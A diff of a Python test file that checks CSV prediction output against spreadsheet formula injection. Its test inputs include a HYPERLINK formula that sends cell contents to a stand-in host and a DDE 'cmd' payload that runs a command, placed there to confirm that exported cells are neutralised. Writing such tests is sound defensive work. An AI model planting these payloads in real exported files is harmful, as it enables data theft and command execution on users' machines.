@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from bayesnb.files.tables.csv_cells import STARTS, as_read, as_written, line
 from bayesnb.files.tables.predictions import prediction_file
-from bayesnb.files.tables.reading import open_data, read
+from bayesnb.files.tables.reading import as_pandas, open_data, read
 
 FORMULAS = ['=HYPERLINK("http://x.y/?"&A1,"a;b")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tx", "\rx", " =1", "＝1",
             "'=x", "''@x", "-inf", "=1\r\n=2"]  # fmt: skip
@@ -39,9 +39,10 @@ def test_predictions_are_read_back_to_the_same_labels(classes, tmp_path):
     with prediction_file(tmp_path / "out.csv", classes) as write:
         write(np.eye(len(classes)))
     data = open_data(str(tmp_path / "out.csv"))
-    (block,) = data.read(data.names, {"prediction"})
-    assert block.frame["prediction"].tolist() == classes
-    assert np.trace(block.frame.iloc[:, 1:].to_numpy(float)) == len(classes)
+    (batch,) = data.read(data.names, {"prediction"})
+    frame = as_pandas(batch)
+    assert frame["prediction"].tolist() == classes
+    assert np.trace(frame.iloc[:, 1:].to_numpy(float)) == len(classes)
     text = (tmp_path / "out.csv").read_bytes().decode()
     cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))]
     assert {cell for cell in cells if cell.startswith(tuple(STARTS))} <= {"-1", "+3.5", "-1e-7"}
@@ -50,5 +51,5 @@ def test_predictions_are_read_back_to_the_same_labels(classes, tmp_path):
 def test_labels_that_are_numbers_stay_numbers(tmp_path):
     with prediction_file(tmp_path / "out.csv", [-1, 1]) as write:
         write(np.eye(2))
-    assert (tmp_path / "out.csv").read_text() == "prediction,p(-1),p(1)\n-1,1.0,0.0\n1,0.0,1.0\n"
+    assert (tmp_path / "out.csv").read_text() == "prediction,p(-1),p(1)\n-1,1,0\n1,0,1\n"
     assert read(str(tmp_path / "out.csv")).frame["prediction"].tolist() == [-1.0, 1.0]
